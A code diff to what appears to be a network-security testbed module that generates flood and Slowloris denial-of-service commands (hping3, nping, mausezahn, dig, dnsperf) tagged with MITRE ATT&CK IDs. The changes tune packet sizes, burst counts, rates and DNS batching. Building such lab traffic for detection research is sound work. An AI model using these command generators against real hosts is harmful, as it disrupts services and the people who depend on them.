@@ -6,6 +6,7 @@ import random
 
 from testbed.attacks.tool import Commands, Target, Tool
 from testbed.command_words import words
+from testbed.lists import BATCHES
 
 ICMP, SYN, UDP, DNS, SLOW = "ICMP Flood", "SYN Flood", "UDP Flood", "DNS Flood", "Slowloris"
 FLOOD, REFLECTED, EXHAUST, SERVICE = "T1498.001", "T1498", "T1499.001", "T1499.002"
@@ -31,24 +32,33 @@ def _bursts(total: int, number: int = BURSTS) -> list[int]:
     return [total // number] * number
 
 
+def _padding(flag: str, rng: random.Random) -> str:
+    """Now and then a SYN bears data, which no well-behaved one does: it must not be the rule."""
+    return f"{flag} {rng.randrange(1, 90)}" if rng.random() < 0.3 else ""
+
+
 def _port(rng: random.Random) -> int:
     # A range of source ports would be walked whole, whatever the count.
     return rng.randrange(1025, 65000)
 
 
 def _ping(target: Target, s: dict, rng: random.Random) -> Commands:
+    # From 16 bytes on it writes the time of day into each.
     return [
         words(
-            f"ping {target.family or '-4'} -q -n -c {s['packets'] // 2} -i {1 / s['rate']:.4f} "
-            f"-s {size} -p {rng.randrange(65536):04x} -W 1 {target.address}"
+            f"ping {target.family or '-4'} -q -n -c {count} -i {1 / s['rate']:.4f} "
+            f"-s {max(1, s['size'] - rng.randrange(8))} -p {rng.randrange(65536):04x} "
+            f"-W 1 {target.address}"
         )
-        for size in (s["size"], rng.randrange(8, 1200))
+        for count in _bursts(s["packets"])
     ]
 
 
 def _hping_icmp(target: Target, s: dict, rng: random.Random) -> Commands:
     def burst(count: int) -> list[str]:
-        data = f"-d {s['size'] + rng.randrange(48)} -E {target.files}/random.bin"
+        data = f"-d {s['size'] + rng.randrange(48)}"
+        if rng.random() < 0.5:
+            data += f" -E {target.files}/random.bin"
         return words(
             f"hping3 -q -n -1 -C {s['type']} -c {count} -i {_micros(s['rate'])} "
             f"{data if s['type'] == 8 else ''} -t {rng.choice((32, 64, 128, 255))} {target.address}"
@@ -64,7 +74,7 @@ def _nping_icmp(target: Target, s: dict, rng: random.Random) -> Commands:
             f"--icmp-id {rng.randrange(65536)} --data-length {rng.randrange(4, s['size'])} "
             f"{target.address}"
         )
-        for count in _bursts(s["packets"])
+        for count in _bursts(s["packets"], 2 * BURSTS)
     ]
 
 
@@ -74,7 +84,7 @@ def _hping_syn(target: Target, s: dict, rng: random.Random) -> Commands:
             "none": "",
             "mss": f"--tcp-mss {rng.randrange(536, 1461)}",
             "timestamp": f"--tcp-timestamp --tcp-mss {rng.randrange(536, 1461)}",
-            "payload": f"-d {rng.randrange(8, 96)} -E {target.files}/random.bin",
+            "payload": _padding("-d", rng),
         }[s["options"]]
         return words(
             f"hping3 -q -n -S -p {s['port']} -c {count} -i {_micros(s['rate'])} "
@@ -89,7 +99,7 @@ def _nping_syn(target: Target, s: dict, rng: random.Random) -> Commands:
         words(
             f"nping {target.family} --tcp -H --quiet -p {s['port']} --flags {s['flags']} "
             f"--win {rng.randrange(1, 65536)} --rate {s['rate']} -c {count} "
-            f"{f'--data-length {rng.randrange(1, 90)}' if s['payload'] else ''} {target.address}"
+            f"{_padding('--data-length', rng) if s['payload'] else ''} {target.address}"
         )
         for count in _bursts(s["packets"], SYN_BURSTS)
     ]
@@ -99,7 +109,7 @@ def _mausezahn_syn(target: Target, s: dict, rng: random.Random) -> Commands:
     return [
         words(
             f"mausezahn {target.frame} -c {count} -d {_millis(s['rate'])} "
-            f"{f'-p {rng.randrange(1, 90)}' if s['payload'] else ''} "
+            f"{_padding('-p', rng) if s['payload'] else ''} "
             f"-t tcp flags=syn,dp={s['port']},sp={_port(rng)},win={rng.randrange(1, 65536)}"
         )
         for count in _bursts(s["packets"], SYN_BURSTS)
@@ -158,11 +168,13 @@ def _mausezahn_dns(target: Target, s: dict, rng: random.Random) -> Commands:
 
 
 def _dig(target: Target, s: dict, rng: random.Random) -> Commands:
+    # It asks as fast as it is answered, and for ANY over TCP: small batches, and UDP.
     return [
         words(
-            f"dig @{target.address} -f {target.files}/{s['names']}-dig.txt -t {s['type']} "
-            f"+tries=1 +time=1 +short {'+dnssec' if s['dnssec'] else ''}"
+            f"dig @{target.address} -f {target.files}/{s['names']}-{batch}.txt -t {s['type']} "
+            f"+notcp +tries=1 +time=1 +short {'+dnssec' if s['dnssec'] else ''}"
         )
+        for batch in range(BATCHES)
     ]
 
 
@@ -191,7 +203,7 @@ def _slow(mode: str, paths: tuple[str, ...]) -> Tool:
         (80,),
         {
             "mode": (mode,),
-            "connections": (40, 80, 120),
+            "connections": (30, 50, 80),
             "rate": (20, 50),
             "interval": (2, 4),
             "seconds": (20, 30),
@@ -205,14 +217,14 @@ def _slow(mode: str, paths: tuple[str, ...]) -> Tool:
     )
 
 
-_PACKETS = {"packets": (640, 960, 1200)}
+_PACKETS = {"packets": (480, 640, 960)}
 
 # name, mode, class, technique, service, protocol, ports, settings, commands, seconds, packets/s
 TOOLS = (
     Tool("ping", "echo requests with a pattern", ICMP, FLOOD, "", "icmp", (),
-         {**_PACKETS, "rate": (120, 180), "size": (56, 200, 900)}, _ping, 25, 200, ipv6=True),
+         {**_PACKETS, "rate": (120, 180), "size": (15, 56, 900)}, _ping, 25, 200, ipv6=True),
     Tool("hping3", "echo and timestamp requests", ICMP, FLOOD, "", "icmp", (),
-         {**_PACKETS, "rate": RATES, "size": (16, 64, 400), "type": (8, 8, 13)},
+         {**_PACKETS, "rate": RATES, "size": (16, 64, 400), "type": (8, 13)},
          _hping_icmp, 25, 300),
     Tool("nping", "echo requests with random data", ICMP, FLOOD, "", "icmp", (),
          {**_PACKETS, "rate": RATES, "size": (32, 600)}, _nping_icmp, 25, 300),
@@ -236,14 +248,13 @@ TOOLS = (
          _mausezahn_udp, 25, 250),
     Tool("dnsperf", "many names", DNS, REFLECTED, "dns", "any", (53,),
          {**_PACKETS, "rate": RATES, "clients": (1, 8), "names": ("random", "known"),
-          "transport": ("udp", "udp", "tcp")}, _dnsperf, 25, 300, ipv6=True),
+          "transport": ("udp", "tcp")}, _dnsperf, 25, 300, ipv6=True),
     Tool("mausezahn", "queries for names that are not there", DNS, REFLECTED, "dns", "udp", (53,),
          {**_PACKETS, "rate": SLOW_RATES, "zone": ("lab.example", "example.org")},
          _mausezahn_dns, 30, 250),
-    # dig asks for ANY over TCP.
-    Tool("dig", "a batch of queries", DNS, REFLECTED, "dns", "any", (53,),
+    Tool("dig", "batches of queries", DNS, REFLECTED, "dns", "udp", (53,),
          {"names": ("random", "known"), "type": ("A", "ANY", "TXT", "AAAA"),
-          "dnssec": (False, True)}, _dig, 25, 300, ipv6=True),
+          "dnssec": (False, True)}, _dig, 25, 300, ipv6=True, pause=0.1),
     _slow("header", ("/", "/index.html")),
     _slow("body", ("/", "/login")),
     _slow("read", ("/firmware.bin", "/big.bin")),
